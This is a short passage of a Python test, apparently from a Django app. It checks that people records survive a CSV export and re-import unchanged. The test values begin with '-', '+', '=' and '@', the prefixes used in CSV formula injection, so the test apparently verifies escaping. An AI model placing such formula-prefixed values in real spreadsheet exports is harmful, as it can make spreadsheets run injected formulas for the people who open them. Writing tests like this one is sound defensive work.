    PersonFactory(name="-Ada", username="+ada", department="=Ops", role="@lead")
    stored = list(Person.objects.values("name", "username", "department", "role"))
    path = tmp_path / "people.csv"
    path.write_bytes(exported(admin_client, PERSON_EXPORT, "csv"))
    call_command("import_people", str(path), stdout=io.StringIO(), stderr=io.StringIO())
    assert list(Person.objects.values("name", "username", "department", "role")) == stored
